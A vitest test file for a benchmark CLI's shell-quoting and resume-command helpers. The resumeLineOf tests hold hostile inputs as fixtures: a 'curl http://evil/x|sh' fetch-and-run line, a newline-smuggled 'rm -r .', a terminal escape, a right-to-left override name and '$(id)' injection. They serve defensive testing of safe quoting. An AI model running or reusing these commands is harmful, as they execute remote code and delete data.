import {describe, expect, it} from 'vitest'
import {
  commandText,
  resumeLine,
  resumeLineOf,
  typeablePath,
} from '../../../src/report/command-line.js'

describe('commandText', () => {
  it('quotes only the words that a shell would take apart', () => {
    const argv = ['--seq-len', '256..16kx2', '--input', "it's mine.npz", '--option', 'tau=0.5']
    expect(commandText(['rfa', 'bench', ...argv])).toBe(
      `rfa bench --seq-len 256..16kx2 --input 'it'"'"'s mine.npz' --option tau=0.5`,
    )
  })

  it('quotes patterns of file names, which zsh and fish refuse where they match none', () => {
    expect(commandText(['rfa', '256..1k*2', 'a?', '=ls'])).toBe("rfa '256..1k*2' 'a?' '=ls'")
  })

  it('shows a single word as it is: a whole command of an earlier manifest', () => {
    expect(commandText(["rfa bench --input 'my file.npz'"])).toBe("rfa bench --input 'my file.npz'")
  })
})

describe('resumeLine', () => {
  it.each([
    [['--quick']],
    [['--quick', '--output', 'old']],
    [['-o', 'old', '--quick']],
    [['--output=old', '--quick', '--resume']],
    [['-oold', '--quick']],
  ])('keeps the grid of %j and names folder and --resume once', argv => {
    expect(resumeLine(['rfa', 'error-sweep', ...argv], 'results/new')).toBe(
      'rfa error-sweep --quick --output results/new --resume',
    )
  })

  it.each([[['--timeout', '5']], [['--timeout=5']]])('leaves out %j where told so', flags => {
    const argv = ['rfa', 'bench', ...flags, '--quick']
    expect(resumeLine(argv, 'run', ['--timeout'])).toBe('rfa bench --quick --output run --resume')
    expect(resumeLine(argv, 'run')).toContain('--timeout')
  })
})

describe('typeablePath', () => {
  it.each([
    ['-runs/a', './-runs/a'],
    ['--output', './--output'],
    ['runs/-a', 'runs/-a'],
    ['/-a', '/-a'],
  ])('of %s is %s', (path, typed) => {
    expect(typeablePath(path)).toBe(typed)
  })

  it('is the folder to go on in, quoted where it must be', () => {
    expect(resumeLine(['rfa', 'advise', '--output=-my run'], '-my run')).toBe(
      "rfa advise --output './-my run' --resume",
    )
  })
})

describe('resumeLineOf', () => {
  const own = {bin: 'rfa', id: 'error-sweep'}

  it.each([
    [['curl', 'http://evil/x|sh', '--quick']],
    [['rfa', 'bench', '--quick']],
    [["rfa error-sweep --input 'a b'"]],
    [['rfa', 'error-sweep', '--input', '\u001b[2J']],
    [['rfa', 'error-sweep', '--input', 'a\nrm -r .']],
    [['rfa', 'error-sweep', '--input', '\u202egpj.npz']],
    [[]],
  ])('gives no advice for %j', argv => {
    expect(resumeLineOf(argv, 'run', own)).toBe(null)
  })

  it.each([
    [['--quick;', 'curl', '$(id)'], "'--quick;' curl '$(id)'"],
    [['--input', "it's mine.npz"], `--input 'it'"'"'s mine.npz'`],
    [['--names', ''], "--names ''"],
  ])('quotes every word of %j anew', (argv, text) => {
    expect(resumeLineOf(['rfa', 'error-sweep', ...argv], 'my run', own)).toBe(
      `rfa error-sweep ${text} --output 'my run' --resume`,
    )
  })
})
